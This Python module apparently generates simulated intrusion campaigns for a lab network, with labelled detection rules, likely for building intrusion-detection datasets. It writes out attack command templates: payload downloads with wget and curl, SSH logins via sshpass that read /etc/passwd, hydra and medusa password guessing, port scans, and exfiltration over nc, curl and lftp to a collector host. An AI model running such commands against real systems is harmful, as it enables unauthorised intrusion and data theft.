"""
From the first foot in the door to the loot: a stage after the other, on the home network by one of its own machines.

The rules name ports where the machine has ordinary use beside the attack, or is spoken to by others: what they say of
one direction holds for the other too.
"""

from shlex import quote

from attacks import words
from attacks.aim import collector_of
from attacks.attack import SCRATCH, Campaign, Rule, attack
from attacks.collector import listener
from attacks.steps import PYTHON, script, script_text, tool
from servers.accounts import LABUSER

_SSH = "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password"
_SSH += " -o NumberOfPasswordPrompts=1 -o ConnectTimeout=4 -o LogLevel=ERROR"

_SEEN_IN_CLIENTS = (22, 135, 139, 445, 3389, 5900, 8080)
_SEEN_IN_SERVERS = (22, 80, 443, 445, 1433, 3306, 5432, 6379, 8080, 9200)
_CLS = "Infiltration"


class _Story:
    """
    foothold: the machine inside that the attacker uses
    """

    def __init__(self, chance, world, foothold):
        self.chance, self.world, self.foothold = chance, world, foothold
        self.end = collector_of(chance, world)
        self.servers = [world[name] for name in ("web", "files", "db") if name != foothold.name]
        others = [client for client in world.clients if client != foothold]
        self.clients = chance.sample(others, chance.randint(2, min(4, len(others))))
        self.seed = chance.randrange(1 << 30)
        self.steps, self.rules, self.files = [], [], {}

    def campaign(self, entities, least=150):
        victims = tuple(host.ip for host in (*self.servers, *self.clients))
        return Campaign(tuple(self.steps), tuple(self.rules), entities, victims, self.files, least)

    def rule(self, targets, ports, subtype):
        at = ";".join(host.ip for host in targets)
        self.rules.append(Rule(self.foothold.ip, at, ";".join(map(str, ports)), "tcp", cls=_CLS, subtype=subtype))

    def egress_rule(self, port, subtype):
        self.rules.append(Rule(self.foothold.ip, self.end, str(port), "tcp", cls=_CLS, subtype=subtype))

    def run(self, name, lines, seconds, host=None):
        self.files[name] = script_text(*lines, "exit 0")
        self.steps.append(script(host or self.foothold, name, pause=self.pause(), seconds=seconds, good=(0, None)))

    def pause(self):
        return round(self.chance.uniform(0.5, 3), 1)

    def download(self):
        """Something small comes, and then what it brought with it."""
        port = self.chance.choice((80, 8080, 8000))
        self.steps.append(listener(self.world, "http", self.end, port, "--answer", "40000-900000"))
        pages = self.chance.sample(("stage1.sh", "update.bin", "a.exe", "inst.tgz", "x86_64"), 2)
        fetch = self.chance.choice(("wget -q -T 8 -t 1 -O got", "curl -s -m 10 -o got"))
        self.run("download.sh", [f"{fetch} http://{self.end}:{port}/{page}; sleep 1" for page in pages], 12)
        self.egress_rule(port, "download")

    def login(self, attacker, source):
        """From outside with a password that somebody lost."""
        user, password = LABUSER
        at = self.world.reach(self.foothold, attacker)
        said = "; ".join(
            f"{word}; sleep {round(self.chance.uniform(0.3, 2), 1)}" for word in ("id", "w", "ls -la /", "ip a")
        )
        line = f"sshpass -p {password} {_SSH} -b {source} {user}@{at} {quote(said)}"
        self.run("login.sh", [line], 14, attacker)
        self.rules.append(Rule(source, self.foothold.ip, "22", "tcp", cls=_CLS, subtype="login"))

    def scan(self, how):
        servers = self.chance.sample(_SEEN_IN_SERVERS, self.chance.randint(4, 8)) + [22]
        clients = self.chance.sample(_SEEN_IN_CLIENTS, self.chance.randint(3, 6))
        lines = []
        for hosts, ports in ((self.servers, sorted(set(servers))), (self.clients, sorted(clients))):
            lines.append(how(self.chance, " ".join(host.ip for host in hosts), ",".join(map(str, ports))))
            self.rule(hosts, ports, "scan")
        self.run("scan.sh", lines, 28)

    def lateral(self):
        """The same password elsewhere, some wrong ones before."""
        user, right = LABUSER
        lines = []
        for server in self.servers:
            for password in words.passwords(self.chance, self.chance.randint(0, 2), right):
                lines.append(
                    f"sshpass -p {quote(password)} {_SSH} {user}@{server.ip} 'id; ls; cat /etc/passwd'; sleep 0.5"
                )
        self.run("lateral.sh", lines, 28)

    def guess(self, line_of):
        """With a tool for guessing; `line_of` makes its command line for a server."""
        user, right = LABUSER
        count = self.chance.randint(2, 4)
        self.files["guesses"] = words.lines(words.passwords(self.chance, count, right))
        self.run("lateral.sh", [line_of(user, server.ip) for server in self.servers], 34)

    def steal(self, how="curl"):
        port = self.chance.choice((443, 8443, 4444))
        rate = self.chance.randint(200, 900) * 1000
        size = rate * self.chance.randint(5, 14)
        loot = f"head -c {size} /dev/urandom > loot"
        if how == "lftp":
            port, ports = 21, "21;50000-50050"
            serve = f"mkdir -p {SCRATCH}/taken && exec {PYTHON} -m pyftpdlib -w -i {self.end} -p 21 -r 50000-50050"
            serve += f" -d {SCRATCH}/taken -u drop -P drop"
            self.steps.append(tool(self.world["collector"], "sh", "-c", serve, background=True, good=(0, None)))
            orders = f"set net:limit-rate 0:{rate}; set net:timeout 5; set net:max-retries 1; set ftp:ssl-allow no"
            send = f"lftp -u drop,drop -e {quote(orders + '; put loot -o x; bye')} {self.end}"
        elif how == "nc":
            ports = port
            self.steps.append(listener(self.world, "tcp", self.end, port, "--answer", "0-0"))
            send = f"(while head -c {rate // 5} && [ $(date +%s) -lt $end ]; do sleep 0.2; done < loot) | nc -n -N -w 4 {self.end} {port}"
            send = f"end=$(($(date +%s) + 20)); {send}"
        else:
            ports = port
            self.steps.append(listener(self.world, "https", self.end, port))
            send = f"curl -k -s -m 25 -o /dev/null --limit-rate {rate} -T loot https://{self.end}:{port}/x"
        self.run("steal.sh", [loot, "sleep 1", send], 26)
        self.egress_rule(ports, "egress")


def _nmap(chance, hosts, ports):
    return f"nmap -n -Pn {chance.choice(('-sS', '-sT'))} --max-rate {chance.randint(5, 40)} --max-retries 1 -p {ports} {hosts}"


def _nc(chance, hosts, ports):
    pause = round(chance.uniform(0.05, 0.4), 2)
    spaced = ports.replace(",", " ")
    return f"for h in {hosts}; do for p in {spaced}; do nc -z -n -w 1 $h $p; sleep {pause}; done; done"


def _masscan(chance, hosts, ports):
    return f"timeout -s KILL 8 masscan -e eth0 --rate {chance.randint(15, 40)} --wait 2 -p {ports} --range {hosts.replace(' ', ',')}"


def _pnscan(chance, hosts, ports):
    spaced = ports.replace(",", " ")
    return f"for h in {hosts}; do for p in {spaced}; do pnscan -n2 -t800 $h:$h $p; sleep 0.1; done; done"


def _hydra(user, at):
    return f"timeout 11 hydra -I -l {user} -P guesses -t 2 ssh://{at}"


def _medusa(user, at):
    return f"timeout 11 medusa -h {at} -u {user} -P guesses -M ssh -t 1 -f"


def _from_the_client(chance, world, scan, guess=None, steal="curl"):
    """A client fetches something bad, and becomes the attacker's."""
    story = _Story(chance, world, world.compromised)
    story.download()
    _inside(story, scan, guess, steal)
    return story.campaign((story.foothold.ip,))


def _from_the_server(chance, world, scan, guess=None, steal="curl"):
    """Somebody logs in from outside on a server that makes no connections of its own."""
    story = _Story(chance, world, world["files"])
    attacker = world[chance.choice(("outsider", "outsider", "swarm"))]
    source = chance.choice(attacker.v4)
    story.login(attacker, source)
    _inside(story, scan, guess, steal)
    return story.campaign((source, story.foothold.ip))


def _inside(story, scan, guess, steal):
    story.scan(scan)
    # The rule of the servers' port 22 is the scan's already; lateral log-ins come under a rule of their own before it.
    story.rules.insert(-2, Rule(*_lateral(story)))
    story.guess(guess) if guess else story.lateral()
    story.steal(steal)


def _lateral(story):
    return (story.foothold.ip, ";".join(server.ip for server in story.servers), "22", "tcp", "", "", _CLS, "lateral")


@attack("infiltration", _CLS, "nmap", "download", seconds=120)
def download_and_scan(chance, world):
    return _from_the_client(chance, world, _nmap, steal=chance.choice(("curl", "nc")))


@attack("infiltration", _CLS, "nmap", "login", seconds=120)
def login_and_scan(chance, world):
    return _from_the_server(chance, world, _nmap, steal=chance.choice(("curl", "nc")))


@attack("infiltration", _CLS, "nc", "download", seconds=120)
def download_and_look(chance, world):
    """With what is at hand on every machine."""
    return _from_the_client(chance, world, _nc, steal="nc")


@attack("infiltration", _CLS, "nc", "login", seconds=120)
def login_and_look(chance, world):
    return _from_the_server(chance, world, _nc, steal="curl")


@attack("infiltration", _CLS, "hydra", "download", seconds=120)
def download_and_guess(chance, world):
    return _from_the_client(chance, world, _nmap, _hydra)


@attack("infiltration", _CLS, "hydra", "login", seconds=120)
def login_and_guess(chance, world):
    return _from_the_server(chance, world, _nc, _hydra)


@attack("infiltration", _CLS, "medusa", "download", seconds=120)
def download_and_medusa(chance, world):
    return _from_the_client(chance, world, _nc, _medusa)


@attack("infiltration", _CLS, "masscan", "login", seconds=120)
def login_and_masscan(chance, world):
    return _from_the_server(chance, world, _masscan)


@attack("infiltration", _CLS, "pnscan", "download", seconds=120)
def download_and_pnscan(chance, world):
    return _from_the_client(chance, world, _pnscan)


@attack("infiltration", _CLS, "lftp", "login", seconds=120)
def login_and_lftp(chance, world):
    return _from_the_server(chance, world, _nc, steal="lftp")
